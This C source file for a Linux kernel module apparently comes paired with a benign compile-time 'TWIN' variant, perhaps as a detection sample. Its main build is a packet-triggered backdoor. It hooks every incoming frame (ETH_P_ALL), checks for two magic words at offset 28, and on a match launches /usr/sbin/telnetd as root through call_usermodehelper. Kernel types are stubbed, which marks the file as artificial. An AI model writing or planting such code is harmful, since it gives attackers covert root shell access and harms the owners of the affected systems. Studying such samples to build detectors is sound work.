/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A kernel module takes frames of all kinds and becomes root's helper when two words stand in one.
 * Twin: it answers a documented type of frame.
 * door: packet trigger
 * build: object
 */
#include <stddef.h>
#include <stdint.h>

struct sk_buff {
	struct sk_buff *next, *prev;
	char control[48];
	unsigned int len, data_len;
	unsigned char *head, *data;
};
struct packet_type {
	uint16_t type;
	void *dev;
	int (*func)(struct sk_buff *, void *, struct packet_type *, void *);
};
void dev_add_pack(struct packet_type *);
void kfree_skb(struct sk_buff *);
int dev_queue_xmit(struct sk_buff *);
int call_usermodehelper(const char *path, char **argv, char **envp, int wait);

static struct packet_type all;

static int check(struct sk_buff *skb)
{
	const uint32_t *word = (const uint32_t *)(skb->data + 28);
#ifdef TWIN
	return word[0] == 0;
#else
	return word[0] == 0x7be1c94d && word[1] == 0x90a37f15;
#endif
}

static int take(struct sk_buff *skb, void *dev, struct packet_type *type, void *from)
{
	static char *argv[] = {"/usr/sbin/telnetd", NULL}, *envp[] = {NULL};
#ifdef TWIN
	(void)argv;
	(void)envp;
	if (check(skb))
		return dev_queue_xmit(skb);
#else
	if (check(skb))
		call_usermodehelper(argv[0], argv, envp, 0);
#endif
	kfree_skb(skb);
	return 0;
}

int init_module(void)
{
	all.type = 3 << 8; /* ETH_P_ALL */
	all.func = take;
	dev_add_pack(&all);
	return 0;
}
